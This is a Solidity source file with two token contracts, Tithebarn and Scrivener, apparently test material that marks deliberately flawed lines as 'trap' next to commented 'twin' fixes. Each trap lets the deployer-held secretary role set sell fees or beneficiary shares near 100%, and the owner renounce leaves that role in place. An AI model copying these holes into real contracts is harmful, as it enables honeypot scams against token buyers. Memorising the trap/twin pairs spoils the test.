// 0.7 runs=500
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

interface IMarkets {
    function createPair(address, address) external returns (address);
}

abstract contract Purse {
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 public immutable totalSupply;
    address public owner;
    address internal immutable _pool;
    address internal immutable _secretary;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _secretary = msg.sender;
        totalSupply = whole * 1e9;
        balanceOf[msg.sender] = whole * 1e9;
        _pool = IMarkets(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, whole * 1e9);
    }

    function renounceOwnership() external {
        require(owner == msg.sender, "Ownable: caller is not the owner");
        owner = address(0);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left != uint256(-1)) allowance[from][msg.sender] = left - value;
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) internal virtual;

    function _hand(address from, address to, uint256 value) internal {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Shares of each sale go to a few who are named.
contract Tithebarn is Purse {
    address[] public beneficiaries;
    uint256[] public shares;

    event Allotted(address[] beneficiaries, uint256[] shares);

    constructor() Purse("Tithebarn", "TITHE", 150000000) {
        beneficiaries.push(msg.sender);
        shares.push(200);
    }

    function allot(address[] calldata to, uint256[] calldata each, uint256 total) external {
        require(msg.sender == _secretary, "not the secretary");
        require(to.length == each.length && to.length > 0 && to.length <= 4, "lengths differ");
        uint256 sum;
        for (uint256 i = 0; i < to.length; i++) {
            require(to[i] != address(0) && to[i] != _pool, "beneficiary");
            require(each[i] <= 10000, "share");
            sum += each[i];
        }
        require(sum == total, "does not add up");
        require(total <= 10000, "more than all"); // trap
        // twin: require(total <= 300, "more than three of a hundred");
        beneficiaries = to;
        shares = each;
        emit Allotted(to, each);
    }

    function _pass(address from, address to, uint256 value) internal override {
        uint256 rest = value;
        if (to == _pool && from != _secretary) {
            for (uint256 i = 0; i < shares.length; i++) {
                uint256 share = (value * shares[i]) / 10000;
                rest -= share;
                _hand(from, beneficiaries[i], share);
            }
        }
        _hand(from, to, rest);
    }
}

/// Each amendment says which one it is and repeats itself as a hash.
contract Scrivener is Purse {
    uint256 public amendments;
    uint16 private _rate;
    address private _till;

    event Amended(uint256 indexed number, bytes32 seal);

    constructor() Purse("Scrivener", "SCRIV", 33000000) {
        _till = msg.sender;
    }

    function amend(uint256 expectedNumber, uint16 rate, address till, bytes32 seal) external {
        require(msg.sender == _secretary, "not the secretary");
        require(expectedNumber == amendments, "another came before");
        require(seal == keccak256(abi.encode(address(this), expectedNumber, rate, till)), "broken seal");
        require(till != address(0) && rate <= 9900, "terms"); // trap
        // twin: require(till != address(0) && rate <= 300, "terms");
        amendments = expectedNumber + 1;
        (_rate, _till) = (rate, till);
        emit Amended(expectedNumber, seal);
    }

    function terms() external view returns (uint16, address) {
        return (_rate, _till);
    }

    function _pass(address from, address to, uint256 value) internal override {
        uint256 charge = (from == _pool || to == _pool) && from != _secretary ? (value * _rate) / 10000 : 0;
        if (charge > 0) _hand(from, _till, charge);
        _hand(from, to, value - charge);
    }
}
